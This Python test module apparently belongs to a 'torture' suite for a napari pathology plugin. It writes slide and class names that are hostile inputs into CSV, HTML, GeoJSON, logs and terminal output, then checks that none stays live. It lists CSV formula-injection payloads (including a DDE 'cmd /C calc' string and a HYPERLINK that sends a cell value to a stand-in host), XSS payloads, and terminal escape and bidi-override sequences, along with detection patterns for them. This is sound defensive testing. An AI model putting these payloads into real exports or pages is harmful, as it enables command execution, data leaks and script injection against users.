"""Names that would be formulas, scripts or orders to a terminal, through all that we write."""

from __future__ import annotations

import csv
import json
import unicodedata
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

from torture.plan import Plan
from torture.row import Row

__all__ = [
    "FORMULAS",
    "ORDERS",
    "SCRIPTS",
    "live_formulas",
    "live_orders",
    "live_tags",
    "try_exports",
    "try_terminal",
]

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "\t=1+1",
    "'=1+1",
    "＝1+1",
)
SCRIPTS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</title><script>alert(1)</script>",
    "'onmouseover='alert(1)",
    "<svg/onload=alert(1)>",
    "&lt;script&gt;",
)
ORDERS = (
    "\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[H",
    "\x9b31m",
    "a\rb",
    "a\b\b\bb",
    "a\nError: all is lost",
    "\u202egpj.exe",
    "\u2066a\u2069",
    "a\u200bb\ufeff",
    "a\u2028b",
    "\udcff",
)
_DANGER = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_TAGS = frozenset(
    {"script", "iframe", "object", "embed", "link", "form", "base", "meta http-equiv"}
)


def try_exports(plan: Plan) -> Row:
    """Write results, tables and pages whose names are formulas and scripts."""
    from napari_dre_slcl.export.geojson import write_geojson
    from napari_dre_slcl.export.look import look_of
    from napari_dre_slcl.export.slide_report import write_slide_report
    from napari_dre_slcl.export.tile_table import write_csv
    from napari_dre_slcl.results import load_result
    from torture.strangers.honest import make_result

    folder = plan.folder / "exports"
    folder.mkdir(parents=True)
    result = load_result(make_result(folder))
    wrong: list[str] = []
    tried = 0
    texts = [text for text in ORDERS if text != "\udcff"]  # no file of ours can hold that one
    for number, text in enumerate((*FORMULAS, *SCRIPTS, *texts)):
        named = replace(
            result,
            slide_id=text,
            slide_path=text,
            codeword_names=(text, "stroma"),
            provenance={"method": text, text: "x"},
            predictions=tuple(
                replace(one, task=text, classes=(text, "other"), positive=None)
                for one in result.predictions
            ),
            evidence=None,
            evidence_of=(),
        )
        look = look_of(named)
        table = write_csv(named, look, folder / f"{number}.csv")
        wrong += [f"formula in {table.name}: {cell}" for cell in live_formulas(table)]
        page = write_slide_report(named, look, None, folder / f"{number}.html", has_names=True)
        told = page.read_text("utf-8")
        wrong += [f"{tag} in {page.name}" for tag in live_tags(told)]
        wrong += [f"{sign!r} in {page.name}" for sign in live_orders(" ".join(told.split()))]
        places = write_geojson(named, look, folder / f"{number}.geojson")
        json.loads(places.read_text("utf-8"))
        wrong += _tables(folder / f"tables-{number}", text)
        tried += 4
    note = "; ".join(wrong[:3]) or "CSV, HTML and GeoJSON of names that are formulas or scripts"
    return Row(
        "names as formulas and scripts", tried, tried - len(wrong), len(wrong), plan.seed, note
    )


def try_terminal(plan: Plan) -> Row:
    """Tell names that would order a terminal about, or that a window may take for HTML."""
    from napari_dre_slcl.atomic_file import append_lines
    from napari_dre_slcl.cli.console import lines, output, print_json, status
    from napari_dre_slcl.cohort.left_out import write_left_out
    from napari_dre_slcl.crash import crash_trace
    from napari_dre_slcl.errors import SlideError
    from napari_dre_slcl.jobs.messages import Failed, Log
    from napari_dre_slcl.layers.layer_name import layer_name

    folder = plan.folder / "told"
    folder.mkdir(parents=True)
    wrong: list[str] = []
    tried = 0
    for text in (*ORDERS, *SCRIPTS):
        with output().capture() as printed, status().capture() as complained:
            output().print(f"Slide {text}")
            output().print(lines([text, text]))
            print_json(json.dumps({"slide": text}, ensure_ascii=False))
            status().print(text)
        append_lines(folder / "log.txt", [Log(message=text).message, Failed(message=text).message])
        left_out = write_left_out(folder, {text: text})
        told = {
            "the terminal": printed.get() + complained.get(),
            "a log": (folder / "log.txt").read_text("utf-8"),
            "left-out.csv": left_out.read_text("utf-8") if left_out else "",
            "an error": str(SlideError(text)),
            "a crash report": crash_trace(SlideError(text)),
            "a layer": layer_name(text),
        }
        wrong += [f"{text!r} in {where}" for where, said in told.items() if live_orders(said)]
        wrong += [f"{text!r} in a layer" for _tag in live_tags(told["a layer"])]
        tried += len(told)
    note = "; ".join(wrong[:3]) or "terminal, log, list of the left out, errors, crashes, layers"
    return Row(
        "names as orders to a terminal", tried, tried - len(wrong), len(wrong), plan.seed, note
    )


def live_orders(text: str) -> list[str]:
    """Return the signs of a text that order a terminal about, or turn or hide its words."""
    kinds = ("Cc", "Cf", "Cs", "Zl", "Zp")
    signs = [sign for sign in text if sign != "\n" and unicodedata.category(sign) in kinds]
    is_faked = any(line.startswith("Error: all is lost") for line in text.splitlines())
    return signs + ["a line of its own"] * is_faked


def _tables(folder: Path, text: str) -> Iterator[str]:
    """Write a cohort and read it again: it must be the same, and no cell of the file live."""
    from napari_dre_slcl.cohort.sheet import new_sheet, read_sheet
    from napari_dre_slcl.cohort.write_sheet import write_sheet

    folder.mkdir()
    row = {"slide_id": "a", "patient_id": "P1", "subtype": text}
    sheet = new_sheet(folder / "a.csv", tuple(row), [row])
    number = sheet.numbers[0]
    written = write_sheet(sheet, folder / "b.csv")
    yield from (f"formula in {written.name}: {cell}" for cell in live_formulas(written))
    # Line ends within a cell may be of another kind then.
    if read_sheet(written).cell(number, 2).split() != sheet.cell(number, 2).split():
        yield f"{text!r} came back as another"


def live_formulas(path: Path) -> Iterator[str]:
    """Yield cells of a CSV file that a spreadsheet would compute."""
    with path.open(encoding="utf-8-sig", newline="") as stream:
        for row in csv.reader(stream):
            for cell in row:
                if cell.startswith(_DANGER) and not _is_number(cell):
                    yield cell[:40]


def live_tags(page: str) -> Iterator[str]:
    """Yield tags and attributes of a page that would run a script."""
    found: list[str] = []

    class Look(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag in _TAGS:
                found.append(f"<{tag}>")
            for name, value in attrs:
                if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                    found.append(f"<{tag} {name}>")

    Look().feed(page)
    yield from found


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return cell.strip("+-") == ""
    return True
